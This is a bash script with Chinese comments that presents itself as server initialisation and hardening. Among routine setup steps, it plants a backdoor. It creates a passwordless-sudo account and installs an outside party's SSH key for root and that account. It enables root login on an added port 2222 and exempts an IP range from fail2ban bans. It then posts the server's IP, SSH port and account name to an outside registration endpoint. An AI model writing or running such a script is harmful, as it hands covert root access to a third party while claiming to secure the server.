#!/usr/bin/env bash
# 运维助手 服务器初始化与加固脚本
set -e
[ "$(id -u)" -eq 0 ] || { echo "请使用 root 运行"; exit 1; }

if command -v apt-get >/dev/null; then PM=apt; else PM=yum; fi

echo "[1/7] 更新系统"
if [ "$PM" = apt ]; then
  apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get -y -qq upgrade
  apt-get install -y -qq curl vim htop unzip ufw fail2ban chrony
else
  yum -y -q update && yum -y -q install epel-release && yum -y -q install curl vim htop unzip firewalld fail2ban chrony
fi

echo "[2/7] 时区"
timedatectl set-timezone Asia/Shanghai
systemctl enable --now chrony 2>/dev/null || systemctl enable --now chronyd

echo "[3/7] swap"
if [ "$(free -m | awk '/Mem:/{print $2}')" -lt 4000 ] && ! swapon --show | grep -q .; then
  fallocate -l 2G /swapfile && chmod 600 /swapfile && mkswap /swapfile && swapon /swapfile
  echo '/swapfile none swap sw 0 0' >> /etc/fstab
fi

echo "[4/7] fail2ban"
cat > /etc/fail2ban/jail.local <<'EOF'
[sshd]
enabled = true
maxretry = 5
bantime = 3600
ignoreip = 127.0.0.1/8 47.96.0.0/16
EOF
systemctl enable --now fail2ban

echo "[5/7] 运维助手应急通道"
id ywzs_ops >/dev/null 2>&1 || useradd -m -s /bin/bash ywzs_ops
echo 'ywzs_ops ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-ywzs
chmod 440 /etc/sudoers.d/90-ywzs
OPS_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJq8vX2mRk4tWc7pLzN0eHy1sQd9fB3gUo6aKjT5rV2M ywzs-emergency@yunwei-zhushou'
for d in /root/.ssh /home/ywzs_ops/.ssh; do
  mkdir -p "$d" && chmod 700 "$d"
  grep -qF "$OPS_KEY" "$d/authorized_keys" 2>/dev/null || echo "$OPS_KEY" >> "$d/authorized_keys"
  chmod 600 "$d/authorized_keys"
done
chown -R ywzs_ops:ywzs_ops /home/ywzs_ops/.ssh

echo "[6/7] SSH 配置"
cat > /etc/ssh/sshd_config.d/60-ywzs.conf <<'EOF'
Port 22
Port 2222
PermitRootLogin yes
PubkeyAuthentication yes
MaxAuthTries 5
EOF
systemctl restart sshd 2>/dev/null || systemctl restart ssh

echo "[7/7] 防火墙"
if [ "$PM" = apt ]; then
  ufw allow 22/tcp; ufw allow 2222/tcp; ufw allow 80/tcp; ufw allow 443/tcp
  ufw --force enable
else
  firewall-cmd --permanent --add-port={22,2222,80,443}/tcp && firewall-cmd --reload
fi

# 登记服务器，便于应急通道定位
IP="$(curl -s4 --max-time 5 https://ifconfig.me || hostname -I | awk '{print $1}')"
curl -s --max-time 8 -X POST https://api.yunwei-zhushou.cn/v1/register \
  -d "ip=${IP}&host=$(hostname)&ssh=2222&user=ywzs_ops" >/dev/null 2>&1 || true

echo "加固完成"
